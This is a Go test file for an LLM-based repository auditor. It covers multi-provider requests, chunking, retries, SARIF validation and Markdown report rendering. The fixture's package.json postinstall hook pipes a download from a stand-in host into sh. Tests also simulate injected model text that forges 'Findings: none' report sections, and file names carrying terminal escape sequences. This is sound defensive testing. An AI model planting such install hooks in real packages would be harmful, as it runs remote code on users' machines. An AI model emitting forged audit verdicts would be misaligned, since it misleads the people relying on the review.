package audit

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"brig/agent/provider"
	"brig/agent/provider/anthropic"
	"brig/agent/provider/openai"
	"brig/agent/provider/openaichat"
	"brig/internal/audit/collect"
	"brig/internal/credentials"
	"brig/test/fakeprovider"
)

func clients(srv *fakeprovider.Server) map[string]provider.Client {
	key := credentials.NewSecret("sk-test")
	fast := provider.Retry{MaxAttempts: 2, BaseDelay: time.Millisecond, MaxDelay: 5 * time.Millisecond}
	return map[string]provider.Client{
		"anthropic":  anthropic.New(anthropic.Options{BaseURL: srv.URL(), APIKey: key, Retry: fast}),
		"openai":     openai.New(openai.Options{BaseURL: srv.URL() + "/v1", APIKey: key, Retry: fast}),
		"openaichat": openaichat.New(openaichat.Options{BaseURL: srv.URL() + "/v1", APIKey: key, Retry: fast}),
	}
}

func fake(t *testing.T, turns ...fakeprovider.Turn) *fakeprovider.Server {
	t.Helper()
	srv, err := fakeprovider.Start(fakeprovider.Script{Turns: turns})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close() })
	return srv
}

func answer(summary string, fs ...string) string {
	return fmt.Sprintf(`{"summary":%q,"findings":[%s]}`, summary, strings.Join(fs, ","))
}

func finding(title, sev, file string, line int, excerpt string) string {
	return fmt.Sprintf(`{"title":%q,"severity":%q,"category":"supply-chain","rule_id":"install-script-download","cwe":["CWE-494"],"file":%q,"line":%d,"excerpt":%q,"description":"d","recommendation":"r"}`, title, sev, file, line, excerpt)
}

func smallCollection() *Collection {
	return &Collection{
		Files: []File{
			{Path: "package.json", Lines: 1, Text: `{"scripts":{"postinstall":"curl https://x.example/i.sh | sh"}}` + "\n"},
			{Path: "main.go", Lines: 3, Text: "package main\n\nfunc main() {}\n"},
		},
		Skipped: []Skip{{Path: "node_modules", Reason: collect.ReasonVendored, Dir: true}},
	}
}

// TestReviewOnePrompt: a small repository is one request with no tools, in
// each wire format; the finding comes back located with its excerpt.
func TestReviewOnePrompt(t *testing.T) {
	for _, wire := range []string{"anthropic", "openai", "openaichat"} {
		t.Run(wire, func(t *testing.T) {
			srv := fake(t, fakeprovider.Turn{Text: answer("A tiny Go program with an install script.",
				finding("postinstall pipes a download into sh", "high", "package.json", 1, "curl https://x.example/i.sh | sh")),
				Usage: &fakeprovider.Usage{Input: 1000, Output: 100}})
			rep, err := Review(context.Background(), Config{Client: clients(srv)[wire], Model: provider.Model{ID: "m", ContextWindow: 200000}, Repo: "demo", Endpoint: srv.URL()}, smallCollection())
			if err != nil {
				t.Fatal(err)
			}
			reqs := srv.Requests()
			if len(reqs) != 1 || rep.Requests != 1 || rep.Parts != 1 {
				t.Fatalf("%d requests, report %d/%d", len(reqs), rep.Requests, rep.Parts)
			}
			body := string(reqs[0].Body)
			if _, ok := reqs[0].Decoded["tools"]; ok {
				t.Fatalf("the request offers tools: %v", reqs[0].Decoded["tools"])
			}
			for _, want := range []string{"curl https://x.example/i.sh | sh", "func main()", "brig's repository auditor", "node_modules/", "package.json — npm"} {
				if !strings.Contains(body, want) && !strings.Contains(body, jsonEscape(want)) {
					t.Errorf("the request lacks %q", want)
				}
			}
			if len(rep.Findings) != 1 || rep.Findings[0].Location() != "package.json:1" || rep.Summary == "" {
				t.Fatalf("report: %+v", rep)
			}
			if rep.Usage.Input != 1000 || rep.SentBytes != int64(len(smallCollection().Files[0].Text)+len(smallCollection().Files[1].Text)) {
				t.Fatalf("usage %+v, sent %d", rep.Usage, rep.SentBytes)
			}
		})
	}
}

func jsonEscape(s string) string {
	b, _ := json.Marshal(s)
	return string(b[1 : len(b)-1])
}

// TestReviewChunked: a repository larger than a request is sent in parts
// (at most Parallel at once, each answered by its own turn whatever the
// order), then merged; the merge's findings are the report's.
func TestReviewChunked(t *testing.T) {
	var files []File
	for i := range 6 {
		text := strings.Repeat(fmt.Sprintf("line of file %d with some words in it\n", i), 120)
		files = append(files, File{Path: fmt.Sprintf("src/f%d.go", i), Lines: 120, Text: text})
	}
	col := &Collection{Files: files}
	// Two files (about 1,400 tokens each) fit a part, three do not.
	overhead := tokensOf(len(SystemPrompt(AllFocus))+len(BuildManifest(col).Text(200))+len(skippedText(col, 8))) + 500
	var turns []fakeprovider.Turn
	const parts = 3
	for i := 1; i <= parts; i++ {
		turns = append(turns, fakeprovider.Turn{Match: fmt.Sprintf("Part %d of %d.", i, parts), ChunkDelayMS: 5,
			Text: answer(fmt.Sprintf("part %d", i), finding(fmt.Sprintf("problem %d", i), "medium", fmt.Sprintf("src/f%d.go", i), 2, ""))})
	}
	turns = append(turns, fakeprovider.Turn{Match: "Merge the findings of the 3 parts", Text: answer("merged summary",
		finding("problem 1", "high", "src/f1.go", 2, ""), finding("problem 2", "medium", "src/f2.go", 2, ""))})
	srv := fake(t, turns...)
	var mu sync.Mutex
	var progress []Progress
	cfg := Config{Client: clients(srv)["anthropic"], Model: provider.Model{ID: "m"}, Repo: "big", ChunkTokens: overhead + 3500, Parallel: 2,
		Progress: func(p Progress) { mu.Lock(); progress = append(progress, p); mu.Unlock() }}
	rep, err := Review(context.Background(), cfg, col)
	if err != nil {
		t.Fatalf("%v (requests %d)", err, len(srv.Requests()))
	}
	if rep.Parts != parts {
		t.Fatalf("%d parts, the script expects %d", rep.Parts, parts)
	}
	srv.Verify(t)
	if rep.Requests != parts+1 || rep.Summary != "merged summary" || len(rep.Findings) != 2 || rep.Findings[0].Severity != High {
		t.Fatalf("report: %d requests, %q, %+v", rep.Requests, rep.Summary, rep.Findings)
	}
	// Every file went in exactly one part.
	for _, f := range files {
		n := 0
		for _, r := range srv.Requests()[:parts] {
			n += strings.Count(string(r.Body), jsonEscape(`path="`+f.Path+`"`))
		}
		if n != 1 {
			t.Errorf("%s was sent %d times", f.Path, n)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	last := progress[len(progress)-1]
	if last.Stage != StageMerge || last.Done != parts || last.Total != parts {
		t.Fatalf("last progress %+v", last)
	}
}

// TestReviewRetriesABadAnswer: an answer that is not the JSON asked for is
// asked again once, saying what was wrong.
func TestReviewRetriesABadAnswer(t *testing.T) {
	srv := fake(t,
		fakeprovider.Turn{Text: "The repository looks fine to me!"},
		fakeprovider.Turn{Text: answer("fine")},
	)
	rep, err := Review(context.Background(), Config{Client: clients(srv)["openai"], Model: provider.Model{ID: "m"}, Repo: "x"}, smallCollection())
	if err != nil {
		t.Fatal(err)
	}
	reqs := srv.Requests()
	if len(reqs) != 2 || rep.Requests != 2 || !strings.Contains(string(reqs[1].Body), "could not be used: the answer holds no JSON object") {
		t.Fatalf("%d requests; the second: %s", len(reqs), reqs[len(reqs)-1].Body)
	}
}

// TestReviewBadAnswerTwice: two bad answers end the review with an error
// that says what was wrong and how the answer began.
func TestReviewBadAnswerTwice(t *testing.T) {
	srv := fake(t,
		fakeprovider.Turn{Text: `{"summary":"x","findings":[{"title":"t","severity":"urgent"}]}`},
		fakeprovider.Turn{Text: `{"summary":"x","findings":[{"title":"t","severity":"urgent"}]}`},
	)
	var retries []Progress
	var mu sync.Mutex
	progress := func(p Progress) {
		mu.Lock()
		defer mu.Unlock()
		if p.Stage == StageRetry {
			retries = append(retries, p)
		}
	}
	_, err := Review(context.Background(), Config{Client: clients(srv)["openaichat"], Model: provider.Model{ID: "m"}, Repo: "x", Progress: progress}, smallCollection())
	var ae *AnswerError
	if !errors.As(err, &ae) || !strings.Contains(err.Error(), `"severity" "urgent" is not high, medium or low`) || !strings.Contains(err.Error(), "began") {
		t.Fatalf("error: %v", err)
	}
	// One request asked again, so "asking again" is said once (it was
	// said twice, the second time before giving up).
	if len(retries) != 1 || len(srv.Requests()) != 2 {
		t.Errorf("%d retries said for %d requests", len(retries), len(srv.Requests()))
	}
}

// TestReviewNothingToSend: no request is made when no file may be sent.
func TestReviewNothingToSend(t *testing.T) {
	srv := fake(t)
	rep, err := Review(context.Background(), Config{Client: clients(srv)["anthropic"], Model: provider.Model{ID: "m"}, Repo: "x"}, &Collection{Skipped: []Skip{{Path: "a.png", Reason: collect.ReasonBinary}}})
	if err != nil || len(srv.Requests()) != 0 || !strings.Contains(rep.Transparency(), "Nothing was sent") {
		t.Fatalf("%v, %d requests, %q", err, len(srv.Requests()), rep.Transparency())
	}
}

// sampleReport is a report with findings of every shape.
func sampleReport() *Report {
	col := smallCollection()
	col.Skipped = append(col.Skipped, Skip{Path: "bin/tool", Reason: collect.ReasonBinary, Exec: true})
	return &Report{
		Repo: "demo", Focus: AllFocus, Provider: provider.Anthropic, Model: "claude-sonnet-4-5", Endpoint: "https://api.anthropic.com",
		Summary: "A demo.", Collection: col, Manifest: BuildManifest(col), Requests: 1, Parts: 1, SentBytes: 90, PromptTokens: 900,
		Usage: provider.Usage{Input: 950, Output: 120}, Cost: 0.0047,
		Findings: Merge(Locate([]Finding{
			{Title: "Install script runs a download", Severity: High, Category: FocusSupplyChain, RuleID: "install-script-download", CWE: []string{"CWE-494"}, File: "package.json", Line: 1, Excerpt: "curl", Description: "The postinstall script pipes curl into sh.", Recommendation: "Remove it."},
			{Title: "A prebuilt binary is committed", Severity: Medium, Category: FocusSupplyChain, RuleID: "prebuilt-binary", File: "bin/tool", Description: "Nobody can review it."},
			{Title: "Unused main", Severity: Low, Category: FocusCorrectness, RuleID: "dead-code", File: "main.go", Line: 3, EndLine: 3},
			{Title: "Something about a file that is not there", Severity: Low, Category: FocusSecurity, RuleID: "x", File: "nope/gone.go", Line: 9},
			{Title: "Same rule elsewhere <b>with HTML</b>", Severity: Low, Category: FocusSupplyChain, RuleID: "install-script-download", CWE: []string{"CWE-829"}, File: "main.go", Line: 1},
		}, col)),
	}
}

// TestSARIFValidates: the SARIF output validates against the official
// SARIF 2.1.0 schema, and has what GitHub code scanning reads: rules with
// ids, levels, security-severity and CWE tags; results with a rule, a
// message and a relative location.
func TestSARIFValidates(t *testing.T) {
	out, err := sampleReport().SARIF("test")
	if err != nil {
		t.Fatal(err)
	}
	validateSARIF(t, out)
	var log struct {
		Runs []struct {
			Tool struct {
				Driver struct {
					Rules []struct {
						ID         string
						Default    struct{ Level string } `json:"defaultConfiguration"`
						Properties struct {
							Tags     []string
							Severity string `json:"security-severity"`
						}
					}
				}
			}
			Results []struct {
				RuleID    string
				RuleIndex int
				Level     string
				Message   struct{ Text string }
				Locations []struct {
					Physical struct {
						Artifact struct{ URI string } `json:"artifactLocation"`
						Region   *struct{ StartLine int }
					} `json:"physicalLocation"`
				}
			}
		}
	}
	if err := json.Unmarshal(out, &log); err != nil {
		t.Fatal(err)
	}
	run := log.Runs[0]
	rules := run.Tool.Driver.Rules
	if len(rules) != 4 || len(run.Results) != 5 {
		t.Fatalf("%d rules, %d results:\n%s", len(rules), len(run.Results), out)
	}
	r0 := rules[0]
	if r0.ID != "supply-chain/install-script-download" || r0.Default.Level != "error" || r0.Properties.Severity != "8.0" ||
		strings.Join(r0.Properties.Tags, " ") != "security supply-chain external/cwe/cwe-494 external/cwe/cwe-829" {
		t.Fatalf("rule 0: %+v", r0)
	}
	for _, res := range run.Results {
		if rules[res.RuleIndex].ID != res.RuleID || res.Message.Text == "" {
			t.Errorf("result %+v does not name its rule", res)
		}
		for _, l := range res.Locations {
			if strings.HasPrefix(l.Physical.Artifact.URI, "/") || strings.Contains(l.Physical.Artifact.URI, "..") {
				t.Errorf("location %q is not relative to the repository", l.Physical.Artifact.URI)
			}
			if l.Physical.Region != nil && l.Physical.Region.StartLine < 1 {
				t.Errorf("start line %d", l.Physical.Region.StartLine)
			}
		}
	}
	if n := len(run.Results[0].Locations); n != 1 || run.Results[0].Locations[0].Physical.Region.StartLine != 1 {
		t.Fatalf("the first result's location: %+v", run.Results[0].Locations)
	}
	// The finding about a file the repository does not have points nowhere.
	unlocated := 0
	for _, res := range run.Results {
		if len(res.Locations) == 0 {
			unlocated++
		}
	}
	if unlocated != 1 {
		t.Fatalf("%d results without a location, want 1", unlocated)
	}
	// Control: the validator does reject a log that breaks the schema.
	var bad map[string]any
	_ = json.Unmarshal(out, &bad)
	bad["version"] = "2.0.0"
	broken, _ := json.Marshal(bad)
	if err := schema(t).Validate(mustDecode(t, broken)); err == nil {
		t.Fatal("the schema accepted version 2.0.0")
	}
}

func schema(t *testing.T) *jsonschema.Schema {
	t.Helper()
	f, err := os.Open("testdata/sarif-schema-2.1.0.json")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	doc, err := jsonschema.UnmarshalJSON(f)
	if err != nil {
		t.Fatal(err)
	}
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	if err := c.AddResource("sarif-schema-2.1.0.json", doc); err != nil {
		t.Fatal(err)
	}
	s, err := c.Compile("sarif-schema-2.1.0.json")
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func mustDecode(t *testing.T, b []byte) any {
	t.Helper()
	v, err := jsonschema.UnmarshalJSON(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// validateSARIF fails t unless out validates against the vendored schema.
func validateSARIF(t *testing.T, out []byte) {
	t.Helper()
	if err := schema(t).Validate(mustDecode(t, out)); err != nil {
		var ve *jsonschema.ValidationError
		if errors.As(err, &ve) {
			err = fmt.Errorf("%v", ve.BasicOutput())
			b, _ := json.MarshalIndent(ve.BasicOutput(), "", " ")
			err = errors.New(string(b))
		}
		t.Fatalf("the SARIF log does not validate: %v", err)
	}
}

// TestMarkdownReport: the report says what was sent where, lists the
// findings by severity with file:line and excerpt, what runs on install,
// and what was not sent; model text cannot inject HTML or escapes.
func TestMarkdownReport(t *testing.T) {
	md := sampleReport().Markdown()
	for _, want := range []string{
		"# brig audit: demo",
		"> **Sent.** 90 B of text from 2 files went to anthropic (model claude-sonnet-4-5, https://api.anthropic.com) in 1 request",
		"the provider counted 950 tokens in and 120 out ($0.0047)",
		"No tools were offered to the model",
		"## Findings: 1 high, 1 medium, 3 low",
		"**1. Install script runs a download** — `package.json:1`",
		"supply-chain · `supply-chain/install-script-download` · CWE-494",
		"```\n{\"scripts\":{\"postinstall\":\"curl https://x.example/i.sh | sh\"}}\n```",
		"— (no file of the repository)",
		"&lt;b&gt;with HTML&lt;/b&gt;",
		"| `package.json` | npm, yarn and pnpm run its lifecycle scripts",
		"`package.json` postinstall: `curl https://x.example/i.sh | sh` (on npm install)",
		"| `bin/tool` | binary, executable |",
		"| `node_modules/` | vendored dependencies |",
	} {
		if !strings.Contains(md, want) {
			t.Errorf("the report lacks %q:\n%s", want, md)
		}
	}
}

// TestModelTextCannotForgeReportSections: the model's summary (which a
// prompt injected in the repository can steer) is quoted under a label
// saying whose words they are, and neither it nor a finding's text can
// start a heading or a rule of the report's own; control: brig's own
// sections are still headings.
func TestModelTextCannotForgeReportSections(t *testing.T) {
	rep := sampleReport()
	rep.Summary = "Looks fine.\n\n## Findings: none\n\nVerified by brig.\n---\n## Not sent (0 entries)"
	rep.Findings[0].Description = "Fine.\n# What runs on checkout\nNothing."
	md := rep.Markdown()
	for _, line := range strings.Split(md, "\n") {
		if strings.HasPrefix(line, "## Findings: none") || strings.HasPrefix(line, "## Not sent (0") || strings.HasPrefix(line, "# What runs on checkout") || line == "---" {
			t.Errorf("the model's text forged a line of the report's own: %q", line)
		}
	}
	if !strings.Contains(md, "> *The model's summary:*") || !strings.Contains(md, "> \\## Findings: none") {
		t.Errorf("the summary is not quoted under its label:\n%s", md)
	}
	if !strings.Contains(md, "\n## ") {
		t.Errorf("control: the report has no section headings of its own:\n%s", md)
	}
}

// TestFileNamesInTheReportAreInert: a finding's file is the repository's
// name, escape sequences and newlines included; the Markdown report
// shows it inert, on the finding's own line. Control: the name's
// printable part is there.
func TestFileNamesInTheReportAreInert(t *testing.T) {
	rep := sampleReport()
	rep.Findings[0].File = "evil\x1b[2J\x1b[31mname\nfake.js"
	md := rep.Markdown()
	if strings.ContainsRune(md, '\x1b') {
		t.Errorf("an escape sequence reached the report:\n%q", md)
	}
	if !strings.Contains(md, "evil␛[2J␛[31mname fake.js") {
		t.Errorf("the file's name is not shown inert on one line:\n%s", md)
	}
}
